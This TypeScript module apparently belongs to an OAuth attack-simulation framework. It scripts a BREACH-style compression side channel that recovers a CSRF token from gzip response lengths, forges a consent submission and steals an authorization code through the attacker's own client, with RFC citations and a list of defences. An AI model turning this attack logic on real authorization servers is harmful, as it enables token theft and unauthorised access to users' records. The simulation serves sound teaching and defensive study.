import { redirectTarget } from '../../../client/page-visitor.js'
import type { Steps } from '../../../flows/walk.js'
import type { Exchange } from '../../../protocol/http/exchange.js'
import { encodeForm } from '../../../protocol/http/form.js'
import { recover } from '../breach-recovery.js'
import { attack, type Scene } from '../model.js'
import {
  authorizationUrl,
  CODE_ARRIVAL,
  catchCode,
  codeRequest,
  HONEST_LOGIN,
  honestLogin,
  OWN_CLIENT,
  stealByCode,
  THEFT_BY_OWN_CLIENT,
} from '../moves.js'

/** The parameter that a careless page repeats, beside its form. */
const REPEATED = 'campaign'

/** Ends of the text before the value, and the length of the value in characters: 32 bytes in base64url. */
const PREFIXES = ['srf value=', 'csrf value=', 'f value=']
const LENGTH = 43

/** Equal requests before the first guess: a value that changes shows in the lengths. */
const EQUAL = 6

/** Most values that are guessed: a few differences between lengths are too small to be read. */
const TRIALS = 6

/** Characters between two steps that report progress. */
const REPORTED = 8

/** The csrf value that the lengths of pages give away, as far as they do. */
async function* guessed({ victim, step }: Scene, url: string, bait: Exchange): Steps<string | undefined> {
  let count = 0
  /** Alice's browser loads the page for the attacker, who sees its length on the wire. */
  async function load(echoed: string): Promise<Exchange> {
    count += 1
    return victim.open(`${url}&${encodeForm([[REPEATED, echoed]])}`, { from: bait, coding: 'gzip' })
  }
  const equal: Exchange[] = []
  while (equal.length < EQUAL) equal.push(await load('the-same'))
  const lengths = [...new Set(equal.map(each => each.wireBytes.response))]
  const samePages = lengths.length === 1
  const note = samePages
    ? `${EQUAL} equal requests, ${EQUAL} pages of ${lengths[0]} bytes`
    : `${EQUAL} equal requests, pages of ${lengths.join(', ')} bytes: the value is another one each time`
  yield step('guess', { exchange: equal[0]!, note, repeats: true })
  if (!samePages) return undefined
  const measure = async (echoed: string) => (await load(echoed)).wireBytes.response
  const search = recover({ prefixes: PREFIXES, length: LENGTH, measure })
  for (;;) {
    const { value, done } = await search.next()
    if (done) return value ?? ''
    if (value.length % REPORTED === 0) {
      yield step('guess', { note: `${value}…, after ${count} pages`, repeats: true })
    }
  }
}

/** Sends the consent form with a guessed value. Begins again with another request, whose value is another one, after a wrong guess. */
async function* submitted(
  scene: Scene,
  bait: Exchange,
  parameters: Readonly<Record<string, string>>,
): Steps<Exchange> {
  for (let trial = 1; ; trial++) {
    const url = authorizationUrl(scene, { ...parameters, state: `trial-${trial}` })
    const csrf = yield* guessed(scene, url, bait)
    if (csrf === '' && trial < TRIALS) continue
    const form = [
      ['csrf', csrf ?? ''],
      ['consent', 'allow'],
    ] as const
    const sent = await scene.victim.post(url, form, bait)
    const refused = redirectTarget(sent) === undefined
    const again = refused && csrf !== undefined && trial < TRIALS
    const note = 'the page sends the form of the consent page'
    yield scene.step('injection', { exchange: sent, note, ...(again && { repeats: true }) })
    if (!again) return sent
  }
}

/** A csrf value read from the lengths of compressed pages, and a consent that nobody gave. */
export const breach = attack({
  name: 'breach',
  title: 'a csrf value read from the lengths of compressed pages',
  rule: 'RFC 9110 §17.6',
  weak: ['no-mask'],
  opened: { 'no-mask': { stolen: true } },
  starts: [
    'The attacker is on the path: they see the length of every encrypted answer, and answer plain http for any host (A2 in RFC 9700 §3).',
    'The attacker has registered a client of their own, as anybody may.',
    'Alice is logged in at the authorization server, and opens any page over plain http. Her browser offers gzip.',
  ],
  steals: 'records of alice',
  defences: [{ check: 'csrf', rule: 'RFC 6749 §10.12' }],
  wouldNotHelp: [
    'TLS: it hides the text of a page, and not its length',
    'SameSite cookies: plain http of the same host is the same site for many browsers',
    'exact redirect addresses, PKCE and state: the client is the attacker’s own',
  ],
  compression: true,
  ...OWN_CLIENT,
  noWindow: 'the attacker counts bytes, and real browsers add their own',
  story: {
    ...HONEST_LOGIN,
    lure: 'Alice opens a page over plain http. The attacker answers it, under the name of the host.',
    guess:
      'The page has her browser load the consent page with guesses. The attacker counts the bytes of the answers.',
    injection:
      'The page sends the consent form with the value that was read. The server must not believe it.',
    ...CODE_ARRIVAL,
    ...THEFT_BY_OWN_CLIENT,
  },
  lanes: {
    lure: ['user_agent', 'attacker', 'GET http://…/news', '9700 §3'],
    guess: ['user_agent', 'authorization_server', 'GET /authorization, many times', '9110 §17.6'],
    injection: ['user_agent', 'authorization_server', 'POST /authorization', '6749 §10.12'],
  },
  async *run(scene) {
    const { victim, pathUrl, catcher, step } = scene
    yield* honestLogin(scene)
    const bait = await victim.open(`${pathUrl}/news`)
    yield step('lure', { exchange: bait, note: 'plain http: the attacker answers in the place of the host' })
    const { parameters, redemption } = codeRequest(scene, catcher.client, catcher.address)
    const sent = yield* submitted(scene, bait, parameters)
    const code = yield* catchCode(scene, sent, catcher.address)
    return yield* stealByCode(scene, catcher.client, redemption(code))
  },
})
